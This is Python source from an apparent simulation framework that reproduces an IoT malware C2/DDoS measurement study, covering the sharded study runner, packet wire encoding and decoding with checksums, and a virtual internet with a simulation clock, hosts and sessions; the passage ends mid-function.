    shard_timeout: float | None = 600.0, max_redispatch: int = 2,
    transport: str = "local", peers: list[str] | None = None,
    unit_count: int | None = None, transport_options: dict | None = None,
) -> tuple[ProbingCampaign, dict]:
    """Sharded pipeline on a transport, probing overlapped in the parent.

    The campaign only reads world state the pipeline never writes (host
    online windows, listener tables, per-server responsiveness chains are
    all slot-indexed), and reseeds the internet RNG per slot — so the
    parent can run it concurrently with the executors and still produce
    the same observations as the serial ordering.

    Returns the campaign plus a run-info dict (per-shard timings,
    re-dispatch/failure accounting, transport placement stats) consumed
    by the manifest.
    """
    runner = ShardedStudyRunner(world, workers, config=malnet.config,
                                shard_timeout=shard_timeout,
                                max_redispatch=max_redispatch,
                                telemetry_enabled=telemetry.enabled,
                                transport=transport, peers=peers,
                                unit_count=unit_count,
                                transport_options=transport_options)
    with telemetry.tracer.span("study.pipeline", workers=workers) \
            as pipeline_span:
        runner.start()
        with telemetry.tracer.span("study.probing"):
            campaign = run_probing(world, malnet, telemetry)
        shards = runner.join()
    if runner.redispatches:
        telemetry.metrics.counter(
            "shard_redispatches",
            "failed shard tasks re-dispatched to a fresh pool",
        ).inc(runner.redispatches)
        telemetry.events.warning(
            "study.shard_redispatched", count=runner.redispatches,
            failures={str(k): v for k, v in runner.failures.items()})
    merged = Datasets.merge([shard.datasets for shard in shards])
    merged.d_pc2 = list(malnet.datasets.d_pc2)
    merged.failed_shards = list(runner.failed_shards)
    if runner.failed_shards:
        telemetry.metrics.counter(
            "shards_failed", "shards with no result after every "
            "re-dispatch wave (partial merge)",
        ).inc(len(runner.failed_shards))
        telemetry.events.warning(
            "study.partial_merge", failed_shards=runner.failed_shards,
            workers=workers,
            failures={str(k): runner.failures[k]
                      for k in runner.failed_shards})
    malnet.datasets = merged
    # c2/ddos records are deduplicated across shards, so their creation
    # counters cannot be summed — the merge excludes them and re-counts
    # the merged records instead, which is exactly what the serial run
    # would have counted.  World-global series (feed pulls precede the
    # shard filter) are taken from the first reporting shard only.
    deduplicated = ("c2_records", "ddos_records")
    for position, shard in enumerate(shards):
        merge_shard_telemetry(
            telemetry, shard.shard_index,
            metrics_snapshot=shard.counters,
            trace_snapshot=shard.spans,
            events_snapshot=shard.events,
            parent_span=pipeline_span if telemetry.tracer.enabled else None,
            wall_seconds=shard.wall_seconds,
            attempt=shard.attempt,
            exclude_counters=deduplicated,
            world_global=(position == 0),
        )
    metrics = telemetry.metrics
    metrics.counter("c2_records").inc(len(merged.d_c2s))
    metrics.counter("ddos_records").inc(len(merged.d_ddos))
    run_info = {
        "shards": [
            {"shard": shard.shard_index, "attempt": shard.attempt,
             "wall_seconds": round(shard.wall_seconds, 6),
             "worker": shard.worker,
             "sizes": dict(shard.datasets.summary())}
            for shard in shards
        ],
        "transport": runner.transport_name,
        "redispatches": runner.redispatches,
        "failed_shards": list(runner.failed_shards),
        "failures": {str(k): runner.failures[k]
                     for k in runner.failed_shards},
    }
    if runner.transport_name != "local":
        run_info["dist"] = runner.transport_stats
    return campaign, run_info


def _build_run_manifest(
    world: World, config: PipelineConfig | None, telemetry: Telemetry,
    datasets: Datasets, *, workers: int | None, cache: StudyCache | None,
    fingerprint: str | None, cached: bool, started: float,
    wall_seconds: float, run_info: dict | None,
) -> dict:
    """Assemble the flight-recorder manifest for one finished run."""
    effective = config or PipelineConfig()
    plan = effective.faults
    if fingerprint is None and world.seed is not None:
        fingerprint = study_fingerprint(world.seed, world.scale, config)
    study = {
        "seed": world.seed,
        "scale": dataclasses.asdict(world.scale),
        "workers": workers or 0,
        "faults": dataclasses.asdict(plan) if plan is not None else None,
        "config": dataclasses.asdict(effective),
        "code_fingerprint": code_fingerprint(),
        "study_fingerprint": fingerprint,
    }
    info = run_info or {}
    run = {
        "started": started,
        "finished": time.time(),
        "wall_seconds": round(wall_seconds, 6),
        "cached": cached,
        "transport": info.get("transport", "local"),
        "redispatches": info.get("redispatches", 0),
    }
    phases = {name: stats
              for name, stats in telemetry.tracer.aggregate().items()
              if name.startswith("study.")}
    cache_info: dict = {"enabled": cache is not None}
    if cache is not None:
        cache_info.update(hit=cached, hits=cache.hits, misses=cache.misses,
                          rejected=cache.rejected)
    quarantined = [
        {"sha256": p.sha256, "day": p.day, "reason": p.quarantine_reason}
        for p in datasets.profiles if p.quarantined
    ]
    extra: dict = {}
    if info.get("failures"):
        extra["failures"] = info["failures"]
    if info.get("dist"):
        extra["dist"] = info["dist"]
    return build_manifest(
        study=study, run=run, phases=phases, cache=cache_info,
        shards=info.get("shards"),
        quarantined=quarantined,
        failed_shards=info.get("failed_shards",
                               list(datasets.failed_shards)),
        datasets=dict(datasets.summary()),
        extra=extra or None,
    )


def _restore_study(
    world: World, config: PipelineConfig | None, telemetry: Telemetry,
    entry: CachedStudy,
) -> tuple[MalNet, ProbingCampaign, Datasets]:
    """Rebuild the (malnet, campaign, datasets) triple from a cache hit.

    The campaign's observations and discovery set are restored verbatim,
    so its derived views (``response_matrix``, repeat-response rate) are
    the ones a fresh run would compute.
    """
    malnet = MalNet(world, config, telemetry=telemetry)
    malnet.datasets = entry.datasets
    campaign = _build_campaign(world, malnet, telemetry,
                               entry.observations, entry.discovered)
    return malnet, campaign, malnet.datasets


def run_study(
    world: World, config: PipelineConfig | None = None,
    telemetry: Telemetry | None = None, workers=None,
    shard_timeout: float | None = 600.0, max_redispatch: int = 2,
    cache: StudyCache | str | None = None,
    transport: str | None = None, peers: list[str] | None = None,
    unit_count: int | None = None, transport_options: dict | None = None,
) -> tuple[MalNet, ProbingCampaign, Datasets]:
    """Execute the complete measurement study on a generated world.

    ``workers=None`` (or 0) runs everything in-process; ``workers=N`` for
    N >= 1 shards the daily pipeline over N processes and merges, with
    identical results; ``workers="auto"`` picks a width that fits the
    machine.  ``shard_timeout``/``max_redispatch`` bound how long a lost
    shard worker is waited for and how often it is retried (see
    :class:`~repro.core.parallel.ShardedStudyRunner`); shards that still
    fail are reported in ``datasets.failed_shards``.

    ``transport="socket"`` dispatches the shard units to remote
    ``repro worker`` daemons at ``peers`` (``["host:port", ...]``) —
    the fleet width follows the peer list, ``unit_count`` controls the
    fine-grained partition (default 4× the fleet), and the merged
    output stays byte-identical to the serial run.  ``unit_count`` also
    applies to the local transport.  ``transport_options`` passes
    coordinator tuning (heartbeat/steal thresholds) through untouched.

    ``cache`` (a :class:`~repro.core.cache.StudyCache` or a directory
    path) short-circuits the whole run when an entry for this exact
    (seed, scale, config, code version) exists — the returned datasets
    and observations are byte-identical to a fresh run's.  Partial
    results (failed shards) are never cached.
    """
    telemetry = telemetry or NULL_TELEMETRY
    if transport not in (None, "local", "socket"):
        raise ValueError(f"unknown transport {transport!r}")
    if transport == "socket":
        if not peers:
            raise ValueError("transport='socket' needs peers "
                             "(['host:port', ...])")
        workers = len(peers)      # the fleet width follows the peer list
    else:
        workers = resolve_workers(workers)
    started = time.time()
    started_clock = time.perf_counter()
    if isinstance(cache, (str, os.PathLike)):
        cache = StudyCache(cache)
    if cache is not None:
        cache.bind_metrics(telemetry.metrics)
    fingerprint = None
    if cache is not None and world.seed is not None:
        fingerprint = study_fingerprint(world.seed, world.scale, config)
        entry = cache.get(fingerprint)
        if entry is not None:
            telemetry.events.emit("study.cache_hit", fingerprint=fingerprint)
            result = _restore_study(world, config, telemetry, entry)
            if telemetry.enabled:
                telemetry.manifest = _build_run_manifest(
                    world, config, telemetry, result[2], workers=workers,
                    cache=cache, fingerprint=fingerprint, cached=True,
                    started=started,
                    wall_seconds=time.perf_counter() - started_clock,
                    run_info=None)
            telemetry.events.emit(
                "study.complete", sizes=dict(result[2].summary()))
            return result
    runner = None
    if workers:
        malnet = MalNet(world, config, telemetry=telemetry)
    else:
        runner = DayRunner(world=world, config=config, telemetry=telemetry)
        malnet = runner.front
    telemetry.events.emit("study.start", scale=world.scale.sample_fraction,
                          workers=workers or 0)
    run_info = None
    if workers:
        campaign, run_info = _run_parallel(
            world, malnet, workers, telemetry,
            shard_timeout=shard_timeout, max_redispatch=max_redispatch,
            transport=transport or "local", peers=peers,
            unit_count=unit_count, transport_options=transport_options)
    else:
        with telemetry.tracer.span("study.pipeline"):
            runner.run_remaining_days()
            runner.complete_pipeline()
        with telemetry.tracer.span("study.probing"):
            campaign = runner.run_probing_phase()
    if fingerprint is not None and not malnet.datasets.failed_shards:
        cache.put(fingerprint, CachedStudy(
            datasets=malnet.datasets,
            observations=campaign.observations,
            discovered=campaign.discovered,
        ))
        telemetry.events.emit("study.cache_store", fingerprint=fingerprint)
    if telemetry.enabled:
        telemetry.manifest = _build_run_manifest(
            world, config, telemetry, malnet.datasets, workers=workers,
            cache=cache, fingerprint=fingerprint, cached=False,
            started=started,
            wall_seconds=time.perf_counter() - started_clock,
            run_info=run_info)
    telemetry.events.emit("study.complete",
                          sizes=dict(malnet.datasets.summary()))
    return malnet, campaign, malnet.datasets
