"""Struct-level IPv4/TCP/UDP/ICMP packet encoding and decoding.

The simulation moves :class:`Packet` objects (cheap dataclasses) between
hosts, but every packet can be serialized to real wire bytes — including
correct IPv4/TCP/UDP/ICMP checksums — so captures written by
:mod:`repro.netsim.capture` are genuine pcap files that external tools can
parse.  Decoding is the strict inverse and is exercised by property-based
tests.

Only the fields the study needs are modeled; options are not supported and
fragmentation is never used (IoT C2/DDoS traffic in the paper does not rely
on either).
"""

from __future__ import annotations

import enum
import struct
from dataclasses import dataclass, field

from .addresses import checksum16, int_to_ip

IPV4_VERSION_IHL = 0x45  # version 4, 20-byte header
IPV4_HEADER_LEN = 20
TCP_HEADER_LEN = 20
UDP_HEADER_LEN = 8
ICMP_HEADER_LEN = 8
DEFAULT_TTL = 64


class Protocol(enum.IntEnum):
    """IP protocol numbers used in the study."""

    ICMP = 1
    TCP = 6
    UDP = 17


class TcpFlags(enum.IntFlag):
    """TCP flag bits (low byte of the flags field)."""

    FIN = 0x01
    SYN = 0x02
    RST = 0x04
    PSH = 0x08
    ACK = 0x10
    URG = 0x20


class PacketError(ValueError):
    """Raised when wire bytes cannot be decoded."""


@dataclass(slots=True)
class Packet:
    """A single IPv4 datagram in flight inside the virtual Internet.

    ``src``/``dst`` are integer IPv4 addresses; ``sport``/``dport`` are 0
    for ICMP.  ``payload`` is the transport payload (TCP/UDP data, or the
    ICMP body after the 8-byte ICMP header).
    """

    src: int
    dst: int
    protocol: Protocol
    sport: int = 0
    dport: int = 0
    payload: bytes = b""
    flags: TcpFlags = TcpFlags(0)
    seq: int = 0
    ack: int = 0
    ttl: int = DEFAULT_TTL
    icmp_type: int = 0
    icmp_code: int = 0
    timestamp: float = field(default=0.0, compare=False)

    def __post_init__(self) -> None:
        if not 0 <= self.sport <= 0xFFFF or not 0 <= self.dport <= 0xFFFF:
            raise PacketError(f"port out of range: {self.sport}/{self.dport}")

    # -- convenience -------------------------------------------------------

    @property
    def src_ip(self) -> str:
        return int_to_ip(self.src)

    @property
    def dst_ip(self) -> str:
        return int_to_ip(self.dst)

    @property
    def is_syn(self) -> bool:
        return bool(self.flags & TcpFlags.SYN) and not self.flags & TcpFlags.ACK

    @property
    def is_synack(self) -> bool:
        return bool(self.flags & TcpFlags.SYN) and bool(self.flags & TcpFlags.ACK)

    @property
    def size(self) -> int:
        """Total on-the-wire IPv4 datagram length in bytes."""
        if self.protocol == Protocol.TCP:
            return IPV4_HEADER_LEN + TCP_HEADER_LEN + len(self.payload)
        if self.protocol == Protocol.UDP:
            return IPV4_HEADER_LEN + UDP_HEADER_LEN + len(self.payload)
        return IPV4_HEADER_LEN + ICMP_HEADER_LEN + len(self.payload)

    def reply_template(self) -> "Packet":
        """A packet skeleton going the opposite direction."""
        return Packet(
            src=self.dst,
            dst=self.src,
            protocol=self.protocol,
            sport=self.dport,
            dport=self.sport,
            timestamp=self.timestamp,
        )

    def describe(self) -> str:
        """One-line human-readable summary (used in reports and logs)."""
        proto = self.protocol.name
        if self.protocol == Protocol.ICMP:
            return (
                f"{self.src_ip} > {self.dst_ip} ICMP type={self.icmp_type} "
                f"code={self.icmp_code} len={len(self.payload)}"
            )
        flag_text = ""
        if self.protocol == Protocol.TCP and self.flags:
            flag_text = f" [{self.flags!s}]".replace("TcpFlags.", "")
        return (
            f"{self.src_ip}:{self.sport} > {self.dst_ip}:{self.dport} "
            f"{proto}{flag_text} len={len(self.payload)}"
        )


# -- encoding ---------------------------------------------------------------


def _ipv4_header(pkt: Packet, total_length: int) -> bytes:
    header = struct.pack(
        "!BBHHHBBHII",
        IPV4_VERSION_IHL,
        0,                # DSCP/ECN
        total_length,
        0,                # identification (unused; no fragmentation)
        0,                # flags+fragment offset
        pkt.ttl,
        int(pkt.protocol),
        0,                # checksum placeholder
        pkt.src,
        pkt.dst,
    )
    check = checksum16(header)
    return header[:10] + struct.pack("!H", check) + header[12:]


def _pseudo_header(pkt: Packet, length: int) -> bytes:
    return struct.pack("!IIBBH", pkt.src, pkt.dst, 0, int(pkt.protocol), length)


def _encode_tcp(pkt: Packet) -> bytes:
    segment = struct.pack(
        "!HHIIBBHHH",
        pkt.sport,
        pkt.dport,
        pkt.seq & 0xFFFFFFFF,
        pkt.ack & 0xFFFFFFFF,
        (TCP_HEADER_LEN // 4) << 4,
        int(pkt.flags) & 0xFF,
        65535,            # window
        0,                # checksum placeholder
        0,                # urgent pointer
    ) + pkt.payload
    check = checksum16(_pseudo_header(pkt, len(segment)) + segment)
    return segment[:16] + struct.pack("!H", check) + segment[18:]


def _encode_udp(pkt: Packet) -> bytes:
    length = UDP_HEADER_LEN + len(pkt.payload)
    datagram = struct.pack("!HHHH", pkt.sport, pkt.dport, length, 0) + pkt.payload
    check = checksum16(_pseudo_header(pkt, length) + datagram)
    if check == 0:
        check = 0xFFFF  # RFC 768: zero means "no checksum"
    return datagram[:6] + struct.pack("!H", check) + datagram[8:]


def _encode_icmp(pkt: Packet) -> bytes:
    body = struct.pack("!BBHI", pkt.icmp_type, pkt.icmp_code, 0, 0) + pkt.payload
    check = checksum16(body)
    return body[:2] + struct.pack("!H", check) + body[4:]


#: memoized wire bytes for repeated header shapes — flood traffic and
#: scan SYNs re-encode the same few (addresses, ports, flags, payload)
#: combinations thousands of times; the timestamp lives only in the pcap
#: record header, so it is not part of the key
_ENCODE_CACHE: dict[tuple, bytes] = {}
_ENCODE_CACHE_MAX = 4096

#: cumulative memo outcomes for this process; the pipeline snapshots a
#: baseline and publishes deltas as the labelled telemetry counter
#: ``packet_encode_memo_total{result=hit|miss|evict}`` (``evict`` counts
#: entries discarded by the clear-on-full bound, not clear events)
ENCODE_MEMO_STATS = {"hit": 0, "miss": 0, "evict": 0}


def encode_memo_stats() -> dict[str, int]:
    """A point-in-time copy of the process-wide encode-memo outcomes."""
    return dict(ENCODE_MEMO_STATS)


def encode_packet(pkt: Packet) -> bytes:
    """Serialize a :class:`Packet` to IPv4 wire bytes with valid checksums."""
    key = (pkt.src, pkt.dst, pkt.protocol, pkt.sport, pkt.dport,
           pkt.payload, pkt.flags, pkt.seq, pkt.ack, pkt.ttl,
           pkt.icmp_type, pkt.icmp_code)
    data = _ENCODE_CACHE.get(key)
    if data is not None:
        ENCODE_MEMO_STATS["hit"] += 1
        return data
    ENCODE_MEMO_STATS["miss"] += 1
    if pkt.protocol == Protocol.TCP:
        transport = _encode_tcp(pkt)
    elif pkt.protocol == Protocol.UDP:
        transport = _encode_udp(pkt)
    elif pkt.protocol == Protocol.ICMP:
        transport = _encode_icmp(pkt)
    else:  # pragma: no cover - Protocol enum is closed
        raise PacketError(f"unsupported protocol: {pkt.protocol}")
    data = _ipv4_header(pkt, IPV4_HEADER_LEN + len(transport)) + transport
    if len(_ENCODE_CACHE) >= _ENCODE_CACHE_MAX:
        ENCODE_MEMO_STATS["evict"] += len(_ENCODE_CACHE)
        _ENCODE_CACHE.clear()
    _ENCODE_CACHE[key] = data
    return data


# -- decoding ---------------------------------------------------------------


def decode_packet(data: bytes, timestamp: float = 0.0) -> Packet:
    """Parse IPv4 wire bytes back into a :class:`Packet`.

    Checksums are verified; a bad checksum raises :class:`PacketError`.
    """
    if len(data) < IPV4_HEADER_LEN:
        raise PacketError("short IPv4 header")
    version_ihl, _dscp, total_length, _ident, _frag, ttl, proto_num, _check, src, dst = (
        struct.unpack("!BBHHHBBHII", data[:IPV4_HEADER_LEN])
    )
    if version_ihl != IPV4_VERSION_IHL:
        raise PacketError(f"unsupported version/IHL byte: {version_ihl:#x}")
    if total_length != len(data):
        raise PacketError(
            f"length mismatch: header says {total_length}, got {len(data)}"
        )
    if checksum16(data[:IPV4_HEADER_LEN]) != 0:
        raise PacketError("bad IPv4 header checksum")
    try:
        protocol = Protocol(proto_num)
    except ValueError as exc:
        raise PacketError(f"unsupported IP protocol {proto_num}") from exc
    body = data[IPV4_HEADER_LEN:]
    pkt = Packet(src=src, dst=dst, protocol=protocol, ttl=ttl, timestamp=timestamp)
    if protocol == Protocol.TCP:
        return _decode_tcp(pkt, body)
    if protocol == Protocol.UDP:
        return _decode_udp(pkt, body)
    return _decode_icmp(pkt, body)


def _decode_tcp(pkt: Packet, body: bytes) -> Packet:
    if len(body) < TCP_HEADER_LEN:
        raise PacketError("short TCP header")
    sport, dport, seq, ack, offset_byte, flag_byte, _win, _check, _urg = struct.unpack(
        "!HHIIBBHHH", body[:TCP_HEADER_LEN]
    )
    data_offset = (offset_byte >> 4) * 4
    if data_offset != TCP_HEADER_LEN:
        raise PacketError("TCP options not supported")
    if checksum16(_pseudo_header_raw(pkt, len(body)) + body) != 0:
        raise PacketError("bad TCP checksum")
    pkt.sport, pkt.dport = sport, dport
    pkt.seq, pkt.ack = seq, ack
    pkt.flags = TcpFlags(flag_byte)
    pkt.payload = body[TCP_HEADER_LEN:]
    return pkt


def _decode_udp(pkt: Packet, body: bytes) -> Packet:
    if len(body) < UDP_HEADER_LEN:
        raise PacketError("short UDP header")
    sport, dport, length, check = struct.unpack("!HHHH", body[:UDP_HEADER_LEN])
    if length != len(body):
        raise PacketError("UDP length mismatch")
    if check != 0 and checksum16(_pseudo_header_raw(pkt, len(body)) + body) not in (0, 0xFFFF):
        raise PacketError("bad UDP checksum")
    pkt.sport, pkt.dport = sport, dport
    pkt.payload = body[UDP_HEADER_LEN:]
    return pkt


def _decode_icmp(pkt: Packet, body: bytes) -> Packet:
    if len(body) < ICMP_HEADER_LEN:
        raise PacketError("short ICMP header")
    if checksum16(body) != 0:
        raise PacketError("bad ICMP checksum")
    icmp_type, icmp_code, _check, _rest = struct.unpack("!BBHI", body[:ICMP_HEADER_LEN])
    pkt.icmp_type, pkt.icmp_code = icmp_type, icmp_code
    pkt.payload = body[ICMP_HEADER_LEN:]
    return pkt


def _pseudo_header_raw(pkt: Packet, length: int) -> bytes:
    return struct.pack("!IIBBH", pkt.src, pkt.dst, 0, int(pkt.protocol), length)


# -- factory helpers --------------------------------------------------------


def tcp_packet(
    src: int,
    dst: int,
    sport: int,
    dport: int,
    flags: TcpFlags,
    payload: bytes = b"",
    seq: int = 0,
    ack: int = 0,
    timestamp: float = 0.0,
) -> Packet:
    """Build a TCP packet."""
    return Packet(
        src=src, dst=dst, protocol=Protocol.TCP, sport=sport, dport=dport,
        flags=flags, payload=payload, seq=seq, ack=ack, timestamp=timestamp,
    )


def udp_packet(
    src: int,
    dst: int,
    sport: int,
    dport: int,
    payload: bytes = b"",
    timestamp: float = 0.0,
) -> Packet:
    """Build a UDP packet."""
    return Packet(
        src=src, dst=dst, protocol=Protocol.UDP, sport=sport, dport=dport,
        payload=payload, timestamp=timestamp,
    )


def icmp_packet(
    src: int,
    dst: int,
    icmp_type: int,
    icmp_code: int = 0,
    payload: bytes = b"",
    timestamp: float = 0.0,
) -> Packet:
    """Build an ICMP packet."""
    return Packet(
        src=src, dst=dst, protocol=Protocol.ICMP,
        icmp_type=icmp_type, icmp_code=icmp_code,
        payload=payload, timestamp=timestamp,
    )
