"""The virtual Internet: hosts, services, delivery, and the simulation clock.

This is the closed world in which the whole study runs.  Hosts own integer
IPv4 addresses and expose TCP/UDP/ICMP services; the
:class:`VirtualInternet` mediates connections and datagrams, stamps
packets with simulation time, and records everything that crosses it into
per-session traces so the sandbox can produce pcaps exactly like a real
capture interface would.

Time is explicit.  :class:`SimClock` counts seconds from the study epoch
(2021-03-01 00:00 UTC, matching the paper's collection window) and every
service callback receives the current time, which is how C2 "elusiveness"
(section 3.2) and server lifespans enter the picture.
"""

from __future__ import annotations

import math
import random
from bisect import bisect_left
from dataclasses import dataclass, field
from typing import Callable, Protocol as TypingProtocol

from ..obs import NULL_TELEMETRY
from .addresses import ephemeral_port, int_to_ip
from .capture import Capture
from .dns import DnsQuery, DnsResponse, Resolver, random_transaction_id
from .packet import Packet, Protocol, TcpFlags, icmp_packet, tcp_packet, udp_packet
from .tcp import TcpConnection

#: Simulation epoch: 2021-03-01T00:00:00Z as a Unix timestamp.
STUDY_EPOCH = 1614556800.0
SECONDS_PER_DAY = 86400.0


_EMPTY_SLOT: tuple = ()


class TimeWheel:
    """Slot-indexed schedule: pending items bucketed by time slot.

    The simulation's recurring schedules (C2 attack windows, host online
    windows) were linear scans per query — O(all items) at every poll,
    almost all of it misses.  A wheel buckets each item under every slot
    its active window overlaps, so a query touches only the items that
    could possibly be due *now* (one dict lookup — an empty slot costs
    O(1) regardless of how many items exist elsewhere on the timeline),
    and :meth:`next_occupied` finds the next non-empty slot without
    stepping through the empty ones.

    Items are indexed by *slot*, which is coarser than their exact
    windows: callers re-check the precise predicate (``due(now)``,
    ``is_online(now)``) on the handful of candidates a slot returns.
    Within a slot, items keep insertion order, so a wheel filled in a
    canonical order yields candidates in that same order — which is what
    keeps wheel-backed lookups byte-identical to the scans they replace.
    """

    __slots__ = ("slot_seconds", "_slots", "_order")

    def __init__(self, slot_seconds: float = 3600.0):
        if slot_seconds <= 0:
            raise ValueError("slot_seconds must be positive")
        self.slot_seconds = slot_seconds
        self._slots: dict[int, list] = {}
        #: sorted occupied-slot keys, rebuilt lazily after inserts
        self._order: list[int] | None = None

    def slot_of(self, when: float) -> int:
        return int(when // self.slot_seconds)

    def add(self, when: float, item) -> None:
        """Index ``item`` under the slot containing ``when``."""
        if not math.isfinite(when):
            raise ValueError("event time must be finite")
        self._slots.setdefault(self.slot_of(when), []).append(item)
        self._order = None

    def add_window(self, start: float, end: float, item) -> None:
        """Index ``item`` under every slot overlapping ``[start, end)``.

        Callers clamp open-ended windows to their horizon first; slot
        coverage errs on the inclusive side (float boundaries may add one
        extra slot), which is harmless because consumers re-check exact
        windows on the candidates.
        """
        if end <= start:
            return
        if not (math.isfinite(start) and math.isfinite(end)):
            raise ValueError("window bounds must be finite (clamp first)")
        first = self.slot_of(start)
        last = self.slot_of(end)
        if last * self.slot_seconds == end:
            last -= 1  # end is exclusive and falls exactly on a boundary
        slots = self._slots
        for slot in range(first, last + 1):
            slots.setdefault(slot, []).append(item)
        self._order = None

    def items_at(self, when: float):
        """Candidates indexed under the slot containing ``when``."""
        return self._slots.get(self.slot_of(when), _EMPTY_SLOT)

    def next_occupied(self, when: float) -> float | None:
        """Start time of the first occupied slot at or after ``when``.

        ``None`` when nothing is scheduled from ``when`` onward.  Uses a
        lazily cached sorted key list, so skipping any number of empty
        slots costs one bisect instead of one advance per slot.
        """
        order = self._order
        if order is None:
            order = self._order = sorted(self._slots)
        index = bisect_left(order, self.slot_of(when))
        if index == len(order):
            return None
        return order[index] * self.slot_seconds

    def __len__(self) -> int:
        """Number of occupied slots."""
        return len(self._slots)


class SimClock:
    """Monotonic simulation clock in seconds since the Unix epoch.

    The clock optionally carries a :class:`TimeWheel` of pending events
    (:meth:`schedule`), letting consumers jump straight to the next
    occupied slot (:meth:`advance_to_next_event`) instead of advancing
    through empty time slot by slot.
    """

    def __init__(self, start: float = STUDY_EPOCH,
                 slot_seconds: float = 3600.0):
        self._now = start
        self._slot_seconds = slot_seconds
        self._wheel: TimeWheel | None = None

    @property
    def wheel(self) -> TimeWheel:
        """The event wheel, created on first use."""
        if self._wheel is None:
            self._wheel = TimeWheel(self._slot_seconds)
        return self._wheel

    def schedule(self, when: float, item) -> None:
        """Register a pending event for :meth:`advance_to_next_event`."""
        self.wheel.add(when, item)

    def pending(self):
        """Events indexed under the slot containing the current time."""
        if self._wheel is None:
            return _EMPTY_SLOT
        return self._wheel.items_at(self._now)

    def advance_to_next_event(self, limit: float) -> float:
        """Jump to the next occupied slot's start, capped at ``limit``.

        With no event scheduled before ``limit`` the clock lands exactly
        on ``limit``; the clock never moves backwards.
        """
        if limit < self._now:
            raise ValueError("clock cannot go backwards")
        target = None if self._wheel is None \
            else self._wheel.next_occupied(self._now)
        if target is None or target > limit:
            target = limit
        if target > self._now:
            self._now = target
        return self._now

    @property
    def now(self) -> float:
        return self._now

    def advance(self, seconds: float) -> float:
        if seconds < 0:
            raise ValueError("clock cannot go backwards")
        self._now += seconds
        return self._now

    def advance_to(self, when: float) -> float:
        if when < self._now:
            raise ValueError("clock cannot go backwards")
        self._now = when
        return self._now

    def day_number(self, epoch: float = STUDY_EPOCH) -> int:
        """Whole days elapsed since the study epoch."""
        return int((self._now - epoch) // SECONDS_PER_DAY)

    def rewind(self, when: float) -> float:
        """Set the clock backwards.

        Only for emulating *parallel* sandbox runs: MalNet analyzes many
        binaries concurrently on the same day, but the simulation runs them
        one after another; the orchestrator rewinds between runs so every
        analysis starts at the same wall-clock instant.  Never use this to
        move world state (server lifetimes, schedules) backwards.
        """
        self._now = when
        return self._now


class TcpService(TypingProtocol):
    """Server-side application attached to a TCP listener."""

    def on_connect(self, session: "ServerSession") -> None:
        """Called when a client completes the handshake."""

    def on_data(self, session: "ServerSession", data: bytes) -> None:
        """Called with each chunk of client application data."""


class UdpService(TypingProtocol):
    """Server-side application attached to a UDP port."""

    def on_datagram(self, host: "Host", pkt: Packet, now: float) -> list[bytes]:
        """Return zero or more reply payloads."""


@dataclass
class Listener:
    """A bound TCP or UDP port on a host."""

    port: int
    protocol: Protocol
    service: object
    #: Gate called per connection attempt; lets C2 servers be "elusive".
    accepts: Callable[[float], bool] = lambda now: True
    banner: bytes = b""


class Host:
    """A network endpoint: an address plus its listeners and liveness."""

    def __init__(self, address: int, name: str = ""):
        self.address = address
        self.name = name or int_to_ip(address)
        self.listeners: dict[tuple[Protocol, int], Listener] = {}
        #: host is routable within [online_from, online_until)
        self.online_from = float("-inf")
        self.online_until = float("inf")

    def bind(self, listener: Listener) -> None:
        key = (listener.protocol, listener.port)
        if key in self.listeners:
            raise ValueError(f"port already bound: {self.name} {key}")
        self.listeners[key] = listener

    def unbind(self, protocol: Protocol, port: int) -> None:
        self.listeners.pop((protocol, port), None)

    def listener(self, protocol: Protocol, port: int) -> Listener | None:
        return self.listeners.get((protocol, port))

    def is_online(self, now: float) -> bool:
        return self.online_from <= now < self.online_until

    def set_lifetime(self, online_from: float, online_until: float) -> None:
        self.online_from = online_from
        self.online_until = online_until


@dataclass
class ServerSession:
    """Server-side handle passed to :class:`TcpService` callbacks."""

    internet: "VirtualInternet"
    conn: TcpConnection
    peer: int
    peer_port: int
    trace: Capture
    closed: bool = False
    #: scratch space for per-connection service state
    state: dict = field(default_factory=dict)

    @property
    def now(self) -> float:
        return self.internet.clock.now

    def send(self, data: bytes) -> None:
        """Send application data to the connected client."""
        if self.closed:
            return
        self.internet._server_send(self, data)

    def close(self) -> None:
        if self.closed:
            return
        self.closed = True
        self.internet._server_close(self)


class ClientSession:
    """Client-side handle returned by :meth:`VirtualInternet.tcp_connect`."""

    def __init__(
        self,
        internet: "VirtualInternet",
        conn: TcpConnection,
        server: ServerSession,
        trace: Capture,
    ):
        self._internet = internet
        self.conn = conn
        self._server = server
        self.trace = trace
        self._inbox = bytearray()
        self.closed = False

    @property
    def remote(self) -> int:
        return self.conn.remote

    @property
    def remote_port(self) -> int:
        return self.conn.remote_port

    def send(self, data: bytes) -> None:
        """Send application data to the server and deliver it."""
        if self.closed:
            raise ConnectionError("session closed")
        self._internet._client_send(self, self._server, data)

    def recv(self) -> bytes:
        """Drain any data the server has sent so far."""
        data = bytes(self._inbox)
        self._inbox.clear()
        return data

    def close(self) -> None:
        if self.closed:
            return
        self.closed = True
        self._internet._client_close(self, self._server)

    # internal: called by the internet when server data arrives
    def _deliver(self, data: bytes) -> None:
        self._inbox.extend(data)


class VirtualInternet:
    """Routes packets between hosts and records all observable traffic."""

    #: nominal one-way delay applied between request and response
    LATENCY = 0.02

    def __init__(self, rng: random.Random, clock: SimClock | None = None):
        self.rng = rng
        self.clock = clock or SimClock()
        self.hosts: dict[int, Host] = {}
        self.resolver = Resolver()
        #: every packet that crossed the backbone (for global analyses)
        self.backbone = Capture(label="backbone")
        #: optional cap on backbone retention to bound memory in long runs
        self.backbone_limit: int | None = 2_000_000
        #: packets the cap kept off the backbone — global analyses on a
        #: capped run are truncated, and this is the signal saying so
        self.backbone_dropped = 0
        self._backbone_warned = False
        #: optional fault injector (repro.netsim.faults)
        self.faults = None
        #: telemetry sink for the one-shot backbone-full warning; bound by
        #: the pipeline, no-op by default
        self.telemetry = NULL_TELEMETRY

    # -- topology -----------------------------------------------------------

    def add_host(self, address: int, name: str = "") -> Host:
        if address in self.hosts:
            raise ValueError(f"duplicate host {int_to_ip(address)}")
        host = Host(address, name)
        self.hosts[address] = host
        return host

    def host(self, address: int) -> Host | None:
        return self.hosts.get(address)

    def ensure_host(self, address: int) -> Host:
        return self.hosts.get(address) or self.add_host(address)

    # -- recording ------------------------------------------------------------

    def _record(self, pkt: Packet, trace: Capture | None) -> None:
        if trace is not None:
            trace.add(pkt)
        if self.backbone_limit is None or len(self.backbone) < self.backbone_limit:
            self.backbone.add(pkt)
        else:
            self.backbone_dropped += 1
            if not self._backbone_warned:
                self._backbone_warned = True
                self.telemetry.events.warning(
